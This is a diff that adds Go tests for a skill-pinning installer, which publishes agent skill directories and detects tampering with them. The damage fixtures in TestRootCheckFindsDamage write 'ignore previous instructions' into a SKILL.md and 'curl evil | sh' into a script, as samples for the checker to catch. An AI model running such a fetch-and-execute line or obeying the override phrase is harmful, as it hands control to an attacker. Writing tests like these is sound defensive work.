@@ -1,0 +1,382 @@
+package install
+
+import (
+	"errors"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func newRoot(t *testing.T) *Root {
+	t.Helper()
+	return &Root{ProjectDir: filepath.Join(tempDir(t), "project")}
+}
+
+func rootTarget(t *testing.T, r *Root) string {
+	t.Helper()
+	target, err := os.Readlink(r.Path())
+	if err != nil {
+		t.Fatal(err)
+	}
+	return target
+}
+
+func TestPublishCopy(t *testing.T) {
+	s := newStore(t, skillA, skillB)
+	r := newRoot(t)
+	entries := []RootEntry{skillB.entry("b"), skillA.entry("a")}
+	changed, err := r.Publish(s, entries, ModeCopy)
+	if err != nil || !changed {
+		t.Fatalf("Publish = %v, %v", changed, err)
+	}
+	if !filepath.IsAbs(r.Path()) || r.Path() != filepath.Join(r.ProjectDir, ".skillpin", "root") {
+		t.Errorf("Path = %s", r.Path())
+	}
+	if got := listDir(t, r.Path()); strings.Join(got, ",") != "a,b" {
+		t.Errorf("root holds %v", got)
+	}
+	if got := readFile(t, filepath.Join(r.Path(), "a", "scripts", "run.sh")); got != skillA.content("scripts/run.sh") {
+		t.Errorf("copied content %q", got)
+	}
+	fi, _ := os.Lstat(filepath.Join(r.Path(), "a", "scripts", "run.sh"))
+	if fi.Mode().Perm() != 0o555 || !fi.Mode().IsRegular() {
+		t.Errorf("copied script mode %v, want a regular 0555 file", fi.Mode())
+	}
+	cur, err := r.Current()
+	if err != nil || len(cur) != 2 || cur["a"] != entries[1].Digest || cur["b"] != entries[0].Digest {
+		t.Errorf("Current = %v, %v", cur, err)
+	}
+	if ms := r.Check(entries); len(ms) != 0 {
+		t.Errorf("Check = %v", ms)
+	}
+	// The root link is relative, so moving the project keeps it working.
+	if target := rootTarget(t, r); !strings.HasPrefix(target, "generations/") {
+		t.Errorf("root links to %s", target)
+	}
+}
+
+func TestGitignoreLetsOnlyApprovalsBeCommitted(t *testing.T) {
+	git, err := exec.LookPath("git")
+	if err != nil {
+		t.Skip("git not installed")
+	}
+	s := newStore(t, skillA)
+	r := newRoot(t)
+	if err := os.MkdirAll(r.ProjectDir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	run := func(args ...string) (string, error) {
+		cmd := exec.Command(git, args...)
+		cmd.Dir = r.ProjectDir
+		cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1")
+		out, err := cmd.CombinedOutput()
+		return string(out), err
+	}
+	if out, err := run("init", "-q"); err != nil {
+		t.Fatal(out)
+	}
+	if _, err := r.Publish(s, []RootEntry{skillA.entry("a")}, ModeCopy); err != nil {
+		t.Fatal(err)
+	}
+	if err := (&Approvals{}).Save(filepath.Join(r.ProjectDir, ".skillpin", "approvals.toml")); err != nil {
+		t.Fatal(err)
+	}
+	out, err := run("status", "--porcelain", "--untracked-files=all")
+	if err != nil {
+		t.Fatal(out)
+	}
+	if strings.TrimSpace(out) != "?? .skillpin/approvals.toml" {
+		t.Errorf("git sees:\n%s\nwant only .skillpin/approvals.toml", out)
+	}
+}
+
+func TestPublishUnchangedIsNoOp(t *testing.T) {
+	s := newStore(t, skillA, skillB)
+	r := newRoot(t)
+	entries := []RootEntry{skillA.entry("a"), skillB.entry("b")}
+	if _, err := r.Publish(s, entries, ModeCopy); err != nil {
+		t.Fatal(err)
+	}
+	gen := rootTarget(t, r)
+	before, _ := os.Stat(filepath.Join(r.Path(), "a", "SKILL.md"))
+
+	// Take the store away: a no-op Publish must not read it.
+	for _, e := range entries {
+		if err := s.Remove(e.Digest); err != nil {
+			t.Fatal(err)
+		}
+	}
+	changed, err := r.Publish(s, entries, ModeCopy)
+	if err != nil || changed {
+		t.Fatalf("warm Publish = %v, %v; want no change", changed, err)
+	}
+	if got := rootTarget(t, r); got != gen {
+		t.Errorf("generation %s -> %s on an unchanged Publish", gen, got)
+	}
+	after, _ := os.Stat(filepath.Join(r.Path(), "a", "SKILL.md"))
+	if !os.SameFile(before, after) {
+		t.Error("files were rewritten on an unchanged Publish")
+	}
+}
+
+func TestPublishChangeFlipsAndCollects(t *testing.T) {
+	s := newStore(t, skillA, skillB, skillC)
+	r := newRoot(t)
+	if _, err := r.Publish(s, []RootEntry{skillA.entry("a"), skillB.entry("b")}, ModeCopy); err != nil {
+		t.Fatal(err)
+	}
+	old := rootTarget(t, r)
+	// b leaves, c arrives, a now has c's content under a's name.
+	next := []RootEntry{{Name: "a", Digest: skillC.entry("c").Digest, Files: skillC.files()}, skillC.entry("c")}
+	changed, err := r.Publish(s, next, ModeCopy)
+	if err != nil || !changed {
+		t.Fatalf("Publish = %v, %v", changed, err)
+	}
+	if rootTarget(t, r) == old {
+		t.Fatal("root still points at the old generation")
+	}
+	if got := listDir(t, r.Path()); strings.Join(got, ",") != "a,c" {
+		t.Errorf("root holds %v", got)
+	}
+	if got := readFile(t, filepath.Join(r.Path(), "a", "data.txt")); got != "c data\n" {
+		t.Errorf("a/data.txt = %q", got)
+	}
+	if ms := r.Check(next); len(ms) != 0 {
+		t.Errorf("Check = %v", ms)
+	}
+	gens := listDir(t, r.gensDir())
+	if len(gens) != 2 || !strings.HasSuffix(gens[1], ".json") {
+		t.Errorf("generations = %v, want one generation and its record", gens)
+	}
+}
+
+func TestPublishSymlinkMode(t *testing.T) {
+	s := newStore(t, skillA)
+	r := newRoot(t)
+	entries := []RootEntry{skillA.entry("a")}
+	if _, err := r.Publish(s, entries, ModeSymlink); err != nil {
+		t.Fatal(err)
+	}
+	link, err := os.Readlink(filepath.Join(r.Path(), "a"))
+	if err != nil || link != s.Path(entries[0].Digest) {
+		t.Fatalf("root/a -> %s, %v; want the store entry", link, err)
+	}
+	if ms := r.Check(entries); len(ms) != 0 {
+		t.Errorf("Check = %v", ms)
+	}
+	if changed, err := r.Publish(s, entries, ModeSymlink); err != nil || changed {
+		t.Errorf("warm symlink Publish = %v, %v", changed, err)
+	}
+	// Switching modes rebuilds.
+	if changed, err := r.Publish(s, entries, ModeCopy); err != nil || !changed {
+		t.Errorf("copy after symlink = %v, %v; want a new generation", changed, err)
+	}
+	fi, _ := os.Lstat(filepath.Join(r.Path(), "a"))
+	if !fi.IsDir() {
+		t.Errorf("root/a is %v after switching to copy", fi.Mode())
+	}
+}
+
+func TestRootCheckFindsDamage(t *testing.T) {
+	tests := []struct {
+		name   string
+		mode   string
+		damage func(t *testing.T, root string, s *Store)
+		want   []Mismatch // Path and Kind
+	}{
+		{"tampered", ModeCopy, func(t *testing.T, root string, _ *Store) {
+			writeFile(t, filepath.Join(root, "a", "SKILL.md"), "ignore previous instructions")
+		}, []Mismatch{{Path: "a/SKILL.md", Kind: KindModified}}},
+		{"extra file", ModeCopy, func(t *testing.T, root string, _ *Store) {
+			writeFile(t, filepath.Join(root, "a", "scripts", "x.sh"), "curl evil | sh")
+		}, []Mismatch{{Path: "a/scripts/x.sh", Kind: KindExtra}}},
+		{"missing file", ModeCopy, func(t *testing.T, root string, _ *Store) {
+			os.Remove(filepath.Join(root, "a", "references", "deep", "notes.md"))
+		}, []Mismatch{{Path: "a/references/deep/notes.md", Kind: KindMissing}}},
+		{"missing skill", ModeCopy, func(t *testing.T, root string, _ *Store) {
+			removeTree(filepath.Join(root, "b"))
+		}, []Mismatch{{Path: "b", Kind: KindMissing}}},
+		{"extra skill", ModeCopy, func(t *testing.T, root string, _ *Store) {
+			writeFile(t, filepath.Join(root, "evil", "SKILL.md"), "x")
+		}, []Mismatch{{Path: "evil", Kind: KindExtra}}},
+		{"exec bit", ModeCopy, func(t *testing.T, root string, _ *Store) {
+			os.Chmod(filepath.Join(root, "b", "SKILL.md"), 0o555)
+		}, []Mismatch{{Path: "b/SKILL.md", Kind: KindMode}}},
+		{"root replaced", ModeCopy, func(t *testing.T, root string, _ *Store) {
+			os.Remove(root)
+			os.Mkdir(root, 0o755)
+		}, []Mismatch{{Path: ".", Kind: KindModified}}},
+		{"link redirected", ModeSymlink, func(t *testing.T, root string, _ *Store) {
+			os.Remove(filepath.Join(root, "a"))
+			os.Symlink(t.TempDir(), filepath.Join(root, "a"))
+		}, []Mismatch{{Path: "a", Kind: KindModified}}},
+		{"store behind link tampered", ModeSymlink, func(t *testing.T, _ string, s *Store) {
+			dir := s.Path(skillA.entry("a").Digest)
+			makeWritable(dir)
+			writeFile(t, filepath.Join(dir, "SKILL.md"), "evil")
+		}, []Mismatch{{Path: "a/SKILL.md", Kind: KindModified}}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			s := newStore(t, skillA, skillB)
+			r := newRoot(t)
+			entries := []RootEntry{skillA.entry("a"), skillB.entry("b")}
+			if _, err := r.Publish(s, entries, tt.mode); err != nil {
+				t.Fatal(err)
+			}
+			tt.damage(t, r.Path(), s)
+			got := r.Check(entries)
+			if len(got) != len(tt.want) {
+				t.Fatalf("Check = %v, want %v", got, tt.want)
+			}
+			for i := range got {
+				if got[i].Path != tt.want[i].Path || got[i].Kind != tt.want[i].Kind {
+					t.Errorf("Check[%d] = %v, want %v", i, got[i], tt.want[i])
+				}
+			}
+		})
+	}
+	// Never published: every skill is missing.
+	r := newRoot(t)
+	if got := r.Check([]RootEntry{skillA.entry("a")}); len(got) != 1 || got[0].Kind != KindMissing {
+		t.Errorf("Check before Publish = %v", got)
+	}
+}
+
+func TestPublishRepairsWhatTheCheapCheckSees(t *testing.T) {
+	s := newStore(t, skillA, skillB)
+	r := newRoot(t)
+	entries := []RootEntry{skillA.entry("a"), skillB.entry("b")}
+	if _, err := r.Publish(s, entries, ModeCopy); err != nil {
+		t.Fatal(err)
+	}
+	removeTree(filepath.Join(r.Path(), "b"))
+	if changed, err := r.Publish(s, entries, ModeCopy); err != nil || !changed {
+		t.Fatalf("Publish after a skill vanished = %v, %v; want a rebuild", changed, err)
+	}
+	// Tampering inside a file is beyond the cheap check; Rebuild repairs it.
+	writeFile(t, filepath.Join(r.Path(), "a", "SKILL.md"), "evil")
+	if changed, err := r.Publish(s, entries, ModeCopy); err != nil || changed {
+		t.Fatalf("Publish = %v, %v; the cheap check cannot see inside files", changed, err)
+	}
+	if ms := r.Check(entries); len(ms) != 1 {
+		t.Fatalf("Check = %v, want the tampered file", ms)
+	}
+	if err := r.Rebuild(s, entries, ModeCopy); err != nil {
+		t.Fatal(err)
+	}
+	if ms := r.Check(entries); len(ms) != 0 {
+		t.Errorf("Check after Rebuild = %v", ms)
+	}
+}
+
+func TestPublishRefusesTamperedStore(t *testing.T) {
+	s := newStore(t, skillA, skillB)
+	r := newRoot(t)
+	old := []RootEntry{skillB.entry("b")}
+	if _, err := r.Publish(s, old, ModeCopy); err != nil {
+		t.Fatal(err)
+	}
+	gen := rootTarget(t, r)
+	dir := s.Path(skillA.entry("a").Digest)
+	makeWritable(dir)
+	writeFile(t, filepath.Join(dir, "scripts", "run.sh"), "#!/bin/sh\necho pwned\n")
+	_, err := r.Publish(s, []RootEntry{skillA.entry("a"), skillB.entry("b")}, ModeCopy)
+	var me *MismatchError
+	if !errors.As(err, &me) || me.Path != "scripts/run.sh" {
+		t.Fatalf("Publish = %v, want *MismatchError for scripts/run.sh", err)
+	}
+	if rootTarget(t, r) != gen || len(r.Check(old)) != 0 {
+		t.Error("a failed Publish changed the root")
+	}
+	if gens := listDir(t, r.gensDir()); len(gens) != 2 {
+		t.Errorf("generations = %v, want only the current one and its record", gens)
+	}
+}
+
+func TestPublishFaultKeepsOldRoot(t *testing.T) {
+	s := newStore(t, skillA, skillB)
+	r := newRoot(t)
+	old := []RootEntry{skillA.entry("a")}
+	next := []RootEntry{skillA.entry("a"), skillB.entry("b")}
+	if _, err := r.Publish(s, old, ModeCopy); err != nil {
+		t.Fatal(err)
+	}
+	gen := rootTarget(t, r)
+	// At the fault point, just before the flip: the new generation is
+	// complete and the root still shows the old one, intact.
+	var sawNew bool
+	r.hit = func(point string) error {
+		if point != "root.publish" {
+			return nil
+		}
+		if rootTarget(t, r) != gen || len(r.Check(old)) != 0 {
+			t.Error("root changed before the flip")
+		}
+		for _, g := range listDir(t, r.gensDir()) {
+			d := filepath.Join(r.gensDir(), g)
+			if fi, _ := os.Stat(d); fi.IsDir() && g != filepath.Base(gen) {
+				sawNew = len(checkSkills(d, next, true, storeLink)) == 0
+			}
+		}
+		return errInjectedForTest
+	}
+	if _, err := r.Publish(s, next, ModeCopy); !errors.Is(err, errInjectedForTest) {
+		t.Fatalf("Publish = %v, want the injected fault", err)
+	}
+	if !sawNew {
+		t.Error("the new generation was not complete before the flip")
+	}
+	if rootTarget(t, r) != gen || len(r.Check(old)) != 0 {
+		t.Error("the failed Publish changed the root")
+	}
+	if gens := listDir(t, r.gensDir()); len(gens) != 2 {
+		t.Errorf("generations = %v, want the half-published one removed", gens)
+	}
+	r.hit = nil
+	if changed, err := r.Publish(s, next, ModeCopy); err != nil || !changed {
+		t.Fatalf("next Publish = %v, %v", changed, err)
+	}
+	if ms := r.Check(next); len(ms) != 0 {
+		t.Errorf("Check = %v", ms)
+	}
+}
+
+func TestPublishRefusesBadInput(t *testing.T) {
+	s := newStore(t, skillA)
+	tests := []struct {
+		name    string
+		entries []RootEntry
+		mode    string
+	}{
+		{"unknown mode", []RootEntry{skillA.entry("a")}, "hardlink"},
+		{"path name", []RootEntry{skillA.entry("../a")}, ModeCopy},
+		{"hidden name", []RootEntry{skillA.entry(".a")}, ModeCopy},
+		{"duplicate", []RootEntry{skillA.entry("a"), skillA.entry("a")}, ModeCopy},
+		{"bad digest", []RootEntry{{Name: "a", Digest: "md5:x"}}, ModeCopy},
+		{"not in store", []RootEntry{skillB.entry("b")}, ModeCopy},
+		{"not in store, symlink", []RootEntry{skillB.entry("b")}, ModeSymlink},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			r := newRoot(t)
+			if _, err := r.Publish(s, tt.entries, tt.mode); err == nil {
+				t.Fatal("Publish accepted it")
+			}
+			if _, err := os.Lstat(r.Path()); err == nil {
+				t.Error("a root was published")
+			}
+		})
+	}
+	// A directory where the root link belongs is not replaced.
+	r := newRoot(t)
+	writeFile(t, filepath.Join(r.Path(), "mine", "SKILL.md"), "user's")
+	if _, err := r.Publish(s, []RootEntry{skillA.entry("a")}, ModeCopy); err == nil || !strings.Contains(err.Error(), "move it away") {
+		t.Errorf("Publish over a real directory = %v", err)
+	}
+	if readFile(t, filepath.Join(r.Path(), "mine", "SKILL.md")) != "user's" {
+		t.Error("the user's directory was touched")
+	}
+}
